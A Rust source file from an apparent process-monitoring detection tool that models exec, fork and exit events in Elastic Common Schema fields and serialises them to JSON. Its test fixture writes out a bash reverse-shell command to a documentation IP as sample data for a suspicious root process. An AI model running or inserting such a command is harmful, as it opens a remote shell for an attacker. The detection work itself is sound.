//! `ProcessEvent`: the one event every source produces, and its ECS JSON form.
//!
//! Field names follow Elastic Defend so that Elastic's detection rules run unchanged
//! (design.md §3). Rules reach the fields through [`KnownField`], resolved once when a rule
//! is compiled; process facts are shared (`Arc`) between an event, its children's
//! `process.parent.*` and the process table, so no string is copied per event.

use std::sync::{Arc, OnceLock};

use serde_json::{json, Map, Value};

use crate::document::{Document, FieldPath, Scalar, Values};

/// What happened to the process.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Action {
    Exec,
    Fork,
    Exit,
}

impl Action {
    /// `event.action`.
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Exec => "exec",
            Action::Fork => "fork",
            Action::Exit => "end",
        }
    }

    /// `event.type` (an ECS array).
    pub fn event_type(self) -> &'static [&'static str] {
        match self {
            Action::Exec | Action::Fork => &["start"],
            Action::Exit => &["end"],
        }
    }
}

/// Text many events share (ids, names, paths, terminals): cloning it is a reference count, not a
/// copy, and a process image that leaves the table frees nothing that other images still use.
pub type Text = Arc<str>;

/// User and group ids as ECS keywords (strings), names where they resolved. Shared (`Arc`) by
/// every image with the same credentials: a handful of distinct sets cover nearly every exec.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Ids {
    /// Effective user id (`process.user.id`, `user.id`).
    pub user_id: String,
    pub user_name: Option<String>,
    pub real_user_id: String,
    pub real_user_name: Option<String>,
    /// Effective group id (`process.group.id`, `group.id`).
    pub group_id: String,
    pub group_name: Option<String>,
    pub real_group_id: String,
    pub real_group_name: Option<String>,
}

/// Code-signing facts (macOS).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct CodeSignature {
    pub exists: bool,
    pub trusted: bool,
    pub signing_id: Option<String>,
    pub team_id: Option<String>,
}

/// What is known of one process image: the event's own process, or its parent.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ProcessInfo {
    pub pid: u32,
    /// Parent pid as the source reported it (`process.parent.pid` when the parent is unknown).
    pub ppid: u32,
    pub entity_id: String,
    pub executable: Text,
    /// Basename of `executable` (never argv[0], never comm).
    pub name: Text,
    pub args: Vec<String>,
    /// `args` joined by single spaces.
    pub command_line: String,
    pub working_directory: Option<Text>,
    pub ids: Arc<Ids>,
    pub interactive: bool,
    /// Terminal name (`pts0`), when there is one.
    pub tty: Option<Text>,
    pub code_signature: Option<CodeSignature>,
    /// Start (exec) time, nanoseconds since the epoch.
    pub start_ns: Option<i64>,
    pub exit_code: Option<i32>,
}

/// Not derived: a derived default allocates a fresh `Arc<Ids>` per image, which a source
/// replaces at once; here every blank image shares one (empty texts share `Arc<str>`'s too).
impl Default for ProcessInfo {
    fn default() -> ProcessInfo {
        static NO_IDS: OnceLock<Arc<Ids>> = OnceLock::new();
        ProcessInfo {
            pid: 0,
            ppid: 0,
            entity_id: String::new(),
            executable: Text::default(),
            name: Text::default(),
            args: Vec::new(),
            command_line: String::new(),
            working_directory: None,
            ids: Arc::clone(NO_IDS.get_or_init(Arc::default)),
            interactive: false,
            tty: None,
            code_signature: None,
            start_ns: None,
            exit_code: None,
        }
    }
}

impl ProcessInfo {
    /// Fills `name` and `command_line` from `executable` and `args`.
    pub fn derive_names(&mut self) {
        self.name = basename(&self.executable).into();
        self.command_line = self.args.join(" ");
    }
}

/// The last path component; the whole string when it has no `/`.
pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Facts about the machine, shared by every event.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct HostInfo {
    pub name: String,
    pub hostname: String,
    pub id: Option<String>,
    /// `linux` or `macos` (ECS `host.os.type`).
    pub os_type: String,
    pub os_family: Option<String>,
    pub os_kernel: Option<String>,
    pub architecture: Option<String>,
}

/// Facts only one source has, kept under its own ECS namespace.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub enum SourceFacts {
    #[default]
    None,
    /// Linux audit: `auditd.*` and `user.audit.*`.
    Audit {
        session: Option<Text>,
        audit_user_id: Option<Text>,
        key: Option<Text>,
        syscall: &'static str,
        /// The exec failed (`success=no`); kept for recon rules, tagged `event.outcome: failure`.
        failed: bool,
    },
    /// Endpoint Security: `macos.es.*`.
    EndpointSecurity {
        seq_num: u64,
        global_seq_num: u64,
        pidversion: u32,
        responsible_pid: Option<u32>,
    },
}

/// One process event, as every source produces it.
#[derive(Clone, Debug, PartialEq)]
pub struct ProcessEvent {
    pub timestamp_ns: i64,
    /// Audit serial or ES global sequence number (`event.sequence`).
    pub sequence: u64,
    pub action: Action,
    pub process: Arc<ProcessInfo>,
    pub parent: Option<Arc<ProcessInfo>>,
    pub host: Arc<HostInfo>,
    pub source: SourceFacts,
}

/// A process field, for the event's own process or its parent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum ProcField {
    Pid,
    EntityId,
    Executable,
    Name,
    Args,
    ArgsCount,
    CommandLine,
    WorkingDirectory,
    UserId,
    UserName,
    RealUserId,
    RealUserName,
    GroupId,
    GroupName,
    RealGroupId,
    RealGroupName,
    Interactive,
    CodeSignatureExists,
    CodeSignatureTrusted,
    CodeSignatureSigningId,
    CodeSignatureTeamId,
    ExitCode,
}

impl ProcField {
    fn from_suffix(s: &str) -> Option<ProcField> {
        use ProcField::*;
        Some(match s {
            "pid" => Pid,
            "entity_id" => EntityId,
            "executable" => Executable,
            "name" => Name,
            "args" => Args,
            "args_count" => ArgsCount,
            "command_line" => CommandLine,
            "working_directory" => WorkingDirectory,
            "user.id" => UserId,
            "user.name" => UserName,
            "real_user.id" => RealUserId,
            "real_user.name" => RealUserName,
            "group.id" => GroupId,
            "group.name" => GroupName,
            "real_group.id" => RealGroupId,
            "real_group.name" => RealGroupName,
            "interactive" => Interactive,
            "code_signature.exists" => CodeSignatureExists,
            "code_signature.trusted" => CodeSignatureTrusted,
            "code_signature.signing_id" => CodeSignatureSigningId,
            "code_signature.team_id" => CodeSignatureTeamId,
            "exit_code" => ExitCode,
            _ => return None,
        })
    }

    fn values(self, p: &ProcessInfo) -> Values<'_> {
        use ProcField::*;
        let sig = |f: fn(&CodeSignature) -> Values<'_>| {
            p.code_signature.as_ref().map_or(Values::Missing, f)
        };
        match self {
            Pid => Values::One(Scalar::Int(i64::from(p.pid))),
            EntityId => s(&p.entity_id),
            Executable => s(&p.executable),
            Name => s(&p.name),
            Args => Values::Strs(&p.args),
            ArgsCount => Values::One(Scalar::Int(p.args.len() as i64)),
            CommandLine => s(&p.command_line),
            WorkingDirectory => opt(&p.working_directory),
            UserId => s(&p.ids.user_id),
            UserName => opt(&p.ids.user_name),
            RealUserId => s(&p.ids.real_user_id),
            RealUserName => opt(&p.ids.real_user_name),
            GroupId => s(&p.ids.group_id),
            GroupName => opt(&p.ids.group_name),
            RealGroupId => s(&p.ids.real_group_id),
            RealGroupName => opt(&p.ids.real_group_name),
            Interactive => Values::One(Scalar::Bool(p.interactive)),
            CodeSignatureExists => sig(|c| Values::One(Scalar::Bool(c.exists))),
            CodeSignatureTrusted => sig(|c| Values::One(Scalar::Bool(c.trusted))),
            CodeSignatureSigningId => sig(|c| opt(&c.signing_id)),
            CodeSignatureTeamId => sig(|c| opt(&c.team_id)),
            ExitCode => p
                .exit_code
                .map_or(Values::Missing, |c| Values::One(Scalar::Int(i64::from(c)))),
        }
    }
}

/// Every ECS field a `ProcessEvent` can fill, resolved from its dotted path at compile time.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum KnownField {
    Process(ProcField),
    Parent(ProcField),
    EventKind,
    EventCategory,
    EventType,
    EventAction,
    EventSequence,
    EventOutcome,
    UserId,
    UserName,
    GroupId,
    GroupName,
    HostName,
    HostHostname,
    HostId,
    HostOsType,
    HostOsFamily,
    HostOsKernel,
    HostArchitecture,
    AuditdSession,
    AuditdDataSyscall,
    UserAuditId,
    TagsKey,
}

impl KnownField {
    /// The typed accessor for a dotted ECS path, or `None` for fields this event never has.
    pub fn from_path(path: &str) -> Option<KnownField> {
        use KnownField::*;
        if let Some(rest) = path.strip_prefix("process.parent.") {
            return ProcField::from_suffix(rest).map(Parent);
        }
        if let Some(rest) = path.strip_prefix("process.") {
            return ProcField::from_suffix(rest).map(Process);
        }
        Some(match path {
            "event.kind" => EventKind,
            "event.category" => EventCategory,
            "event.type" => EventType,
            "event.action" => EventAction,
            "event.sequence" => EventSequence,
            "event.outcome" => EventOutcome,
            "user.id" => UserId,
            "user.name" => UserName,
            "group.id" => GroupId,
            "group.name" => GroupName,
            "host.name" => HostName,
            "host.hostname" => HostHostname,
            "host.id" => HostId,
            "host.os.type" => HostOsType,
            "host.os.family" => HostOsFamily,
            "host.os.kernel" => HostOsKernel,
            "host.architecture" => HostArchitecture,
            "auditd.session" => AuditdSession,
            "auditd.data.syscall" => AuditdDataSyscall,
            "user.audit.id" => UserAuditId,
            "tags" => TagsKey,
            _ => return None,
        })
    }
}

impl ProcessEvent {
    fn known(&self, f: KnownField) -> Values<'_> {
        use KnownField::*;
        let p = &*self.process;
        match f {
            Process(pf) => pf.values(p),
            Parent(ProcField::Pid) => {
                let pid = self.parent.as_ref().map_or(p.ppid, |pp| pp.pid);
                Values::One(Scalar::Int(i64::from(pid)))
            }
            Parent(pf) => self
                .parent
                .as_deref()
                .map_or(Values::Missing, |pp| pf.values(pp)),
            EventKind => s("event"),
            EventCategory => Values::StaticStrs(&["process"]),
            EventType => Values::StaticStrs(self.event_type()),
            EventAction => s(self.action.as_str()),
            EventSequence => Values::One(Scalar::Int(self.sequence as i64)),
            EventOutcome => s(if self.failed() { "failure" } else { "success" }),
            UserId => s(&p.ids.user_id),
            UserName => opt(&p.ids.user_name),
            GroupId => s(&p.ids.group_id),
            GroupName => opt(&p.ids.group_name),
            HostName => s(&self.host.name),
            HostHostname => s(&self.host.hostname),
            HostId => opt(&self.host.id),
            HostOsType => s(&self.host.os_type),
            HostOsFamily => opt(&self.host.os_family),
            HostOsKernel => opt(&self.host.os_kernel),
            HostArchitecture => opt(&self.host.architecture),
            AuditdSession => match &self.source {
                SourceFacts::Audit { session, .. } => opt(session),
                _ => Values::Missing,
            },
            AuditdDataSyscall => match &self.source {
                SourceFacts::Audit { syscall, .. } => s(syscall),
                _ => Values::Missing,
            },
            UserAuditId => match &self.source {
                SourceFacts::Audit { audit_user_id, .. } => opt(audit_user_id),
                _ => Values::Missing,
            },
            TagsKey => match &self.source {
                SourceFacts::Audit { key: Some(k), .. } => s(k),
                _ => Values::Missing,
            },
        }
    }

    /// `event.type`: a failed exec started nothing, so it is `info`, never `start`.
    pub fn event_type(&self) -> &'static [&'static str] {
        if self.failed() {
            &["info"]
        } else {
            self.action.event_type()
        }
    }

    /// True for an exec that failed (audit `success=no`).
    pub fn failed(&self) -> bool {
        matches!(self.source, SourceFacts::Audit { failed: true, .. })
    }
}

impl Document for ProcessEvent {
    #[inline]
    fn values(&self, field: &FieldPath) -> Values<'_> {
        match field.known() {
            Some(k) => self.known(k),
            None => Values::Missing,
        }
    }

    fn timestamp_ns(&self) -> Option<i64> {
        Some(self.timestamp_ns)
    }

    /// Cheap: the process, parent and host facts are shared `Arc`s.
    fn retain(&self) -> crate::document::Retained {
        Arc::new(self.clone())
    }

    fn to_json(&self) -> Value {
        let mut process = process_json(&self.process);
        let parent = match &self.parent {
            Some(pp) => process_json(pp),
            None => {
                let mut m = Map::new();
                m.insert("pid".into(), self.process.ppid.into());
                m
            }
        };
        process.insert("parent".into(), Value::Object(parent));
        let p = &self.process;
        let mut event = json!({
            "kind": "event",
            "category": ["process"],
            "type": self.event_type(),
            "action": self.action.as_str(),
            "sequence": self.sequence,
            "outcome": if self.failed() { "failure" } else { "success" },
        });
        let mut root = Map::new();
        root.insert(
            "@timestamp".into(),
            crate::time::format_rfc3339_ms(self.timestamp_ns).into(),
        );
        root.insert("process".into(), Value::Object(process));
        let mut user = Map::new();
        user.insert("id".into(), p.ids.user_id.clone().into());
        insert_opt(&mut user, "name", &p.ids.user_name);
        let mut group = Map::new();
        group.insert("id".into(), p.ids.group_id.clone().into());
        insert_opt(&mut group, "name", &p.ids.group_name);
        let mut host = Map::new();
        host.insert("name".into(), self.host.name.clone().into());
        host.insert("hostname".into(), self.host.hostname.clone().into());
        insert_opt(&mut host, "id", &self.host.id);
        insert_opt(&mut host, "architecture", &self.host.architecture);
        let mut os = Map::new();
        os.insert("type".into(), self.host.os_type.clone().into());
        insert_opt(&mut os, "family", &self.host.os_family);
        insert_opt(&mut os, "kernel", &self.host.os_kernel);
        host.insert("os".into(), Value::Object(os));
        match &self.source {
            SourceFacts::None => {}
            SourceFacts::Audit {
                session,
                audit_user_id,
                key,
                syscall,
                failed,
            } => {
                let mut auditd = Map::new();
                insert_opt(&mut auditd, "session", session);
                auditd.insert(
                    "data".into(),
                    json!({ "syscall": syscall, "success": if *failed { "no" } else { "yes" } }),
                );
                if let Some(k) = key {
                    root.insert("tags".into(), json!([&**k]));
                }
                if let Some(auid) = audit_user_id {
                    user.insert("audit".into(), json!({ "id": &**auid }));
                }
                root.insert("auditd".into(), Value::Object(auditd));
            }
            SourceFacts::EndpointSecurity {
                seq_num,
                global_seq_num,
                pidversion,
                responsible_pid,
            } => {
                let mut es = json!({
                    "seq_num": seq_num,
                    "global_seq_num": global_seq_num,
                    "pidversion": pidversion,
                });
                if let Some(r) = responsible_pid {
                    es["responsible_pid"] = json!(r);
                }
                root.insert("macos".into(), json!({ "es": es }));
            }
        }
        if let Value::Object(e) = &mut event {
            e.insert(
                "module".into(),
                json!(match self.source {
                    SourceFacts::Audit { .. } => "auditd",
                    SourceFacts::EndpointSecurity { .. } => "endpoint_security",
                    SourceFacts::None => "execsentry",
                }),
            );
        }
        root.insert("event".into(), event);
        root.insert("user".into(), Value::Object(user));
        root.insert("group".into(), Value::Object(group));
        root.insert("host".into(), Value::Object(host));
        root.insert("ecs".into(), json!({ "version": "8.11.0" }));
        Value::Object(root)
    }
}

fn s(v: &str) -> Values<'_> {
    Values::One(Scalar::Str(v))
}

fn opt<T: AsRef<str>>(v: &Option<T>) -> Values<'_> {
    v.as_ref().map_or(Values::Missing, |v| s(v.as_ref()))
}

fn insert_opt<T: AsRef<str>>(m: &mut Map<String, Value>, k: &str, v: &Option<T>) {
    if let Some(v) = v {
        m.insert(k.into(), v.as_ref().into());
    }
}

fn process_json(p: &ProcessInfo) -> Map<String, Value> {
    let mut m = Map::new();
    m.insert("pid".into(), p.pid.into());
    m.insert("entity_id".into(), p.entity_id.clone().into());
    m.insert("executable".into(), (&*p.executable).into());
    m.insert("name".into(), (&*p.name).into());
    m.insert("args".into(), p.args.clone().into());
    m.insert("args_count".into(), p.args.len().into());
    m.insert("command_line".into(), p.command_line.clone().into());
    insert_opt(&mut m, "working_directory", &p.working_directory);
    m.insert("interactive".into(), p.interactive.into());
    let id_obj = |id: &str, name: &Option<String>| {
        let mut o = Map::new();
        o.insert("id".into(), id.into());
        insert_opt(&mut o, "name", name);
        Value::Object(o)
    };
    m.insert("user".into(), id_obj(&p.ids.user_id, &p.ids.user_name));
    m.insert(
        "real_user".into(),
        id_obj(&p.ids.real_user_id, &p.ids.real_user_name),
    );
    m.insert("group".into(), id_obj(&p.ids.group_id, &p.ids.group_name));
    m.insert(
        "real_group".into(),
        id_obj(&p.ids.real_group_id, &p.ids.real_group_name),
    );
    if let Some(c) = &p.code_signature {
        let mut o = Map::new();
        o.insert("exists".into(), c.exists.into());
        o.insert("trusted".into(), c.trusted.into());
        insert_opt(&mut o, "signing_id", &c.signing_id);
        insert_opt(&mut o, "team_id", &c.team_id);
        m.insert("code_signature".into(), Value::Object(o));
    }
    if let Some(start) = p.start_ns {
        m.insert("start".into(), crate::time::format_rfc3339_ms(start).into());
    }
    if let Some(code) = p.exit_code {
        m.insert("exit_code".into(), code.into());
    }
    m
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::{JsonDocument, Scalar};

    #[test]
    fn blank_images_share_empty_ids() {
        let (a, b) = (ProcessInfo::default(), ProcessInfo::default());
        assert!(Arc::ptr_eq(&a.ids, &b.ids));
        assert_eq!(*a.ids, Ids::default());
        assert_eq!((a.pid, a.entity_id.as_str(), &*a.executable), (0, "", ""));
        assert!(a.args.is_empty() && a.working_directory.is_none() && a.start_ns.is_none());
    }

    fn sample() -> ProcessEvent {
        let mut parent = ProcessInfo {
            pid: 10,
            ppid: 1,
            executable: "/usr/sbin/sshd".into(),
            args: vec!["sshd:".into(), "user".into()],
            ..Default::default()
        };
        parent.derive_names();
        let mut p = ProcessInfo {
            pid: 42,
            ppid: 10,
            entity_id: "e42".into(),
            executable: "/usr/bin/bash".into(),
            args: vec![
                "bash".into(),
                "-c".into(),
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1".into(),
            ],
            ids: Arc::new(Ids {
                user_id: "0".into(),
                user_name: Some("root".into()),
                ..Default::default()
            }),
            ..Default::default()
        };
        p.derive_names();
        ProcessEvent {
            timestamp_ns: 1_795_848_213_123_000_000,
            sequence: 7,
            action: Action::Exec,
            process: Arc::new(p),
            parent: Some(Arc::new(parent)),
            host: Arc::new(HostInfo {
                name: "h".into(),
                hostname: "h".into(),
                os_type: "linux".into(),
                ..Default::default()
            }),
            source: SourceFacts::Audit {
                session: None,
                audit_user_id: None,
                key: Some("execsentry".into()),
                syscall: "execve",
                failed: false,
            },
        }
    }

    /// The typed accessors and the JSON form must agree, field by field: a rule sees the
    /// same thing on a live event as on that event replayed from its own alert.
    #[test]
    fn typed_fields_agree_with_json_form() {
        let ev = sample();
        let doc = match ev.to_json() {
            Value::Object(m) => JsonDocument::new(m),
            _ => unreachable!(),
        };
        for path in [
            "process.name",
            "process.executable",
            "process.args",
            "process.args_count",
            "process.command_line",
            "process.pid",
            "process.parent.pid",
            "process.parent.name",
            "process.parent.args",
            "process.parent.command_line",
            "process.user.id",
            "process.user.name",
            "user.id",
            "user.name",
            "event.category",
            "event.type",
            "event.action",
            "event.kind",
            "event.sequence",
            "event.outcome",
            "host.os.type",
            "process.interactive",
            "auditd.data.syscall",
            "process.working_directory",
        ] {
            let f = FieldPath::new(path);
            assert!(f.known().is_some(), "{path} should be a known field");
            let typed: Vec<Scalar> = ev.values(&f).iter().collect();
            let json: Vec<Scalar> = doc.values(&f).iter().collect();
            assert_eq!(typed, json, "{path}");
        }
        assert_eq!(doc.timestamp_ns(), Some(ev.timestamp_ns));
    }

    #[test]
    fn parent_pid_falls_back_to_ppid() {
        let mut ev = sample();
        ev.parent = None;
        let f = FieldPath::new("process.parent.pid");
        assert_eq!(ev.values(&f).first(), Some(Scalar::Int(10)));
        assert!(ev
            .values(&FieldPath::new("process.parent.name"))
            .is_missing());
    }

    #[test]
    fn name_is_basename_of_executable() {
        assert_eq!(basename("/usr/bin/bash"), "bash");
        assert_eq!(basename("bash"), "bash");
        assert_eq!(basename("/"), "");
    }
}
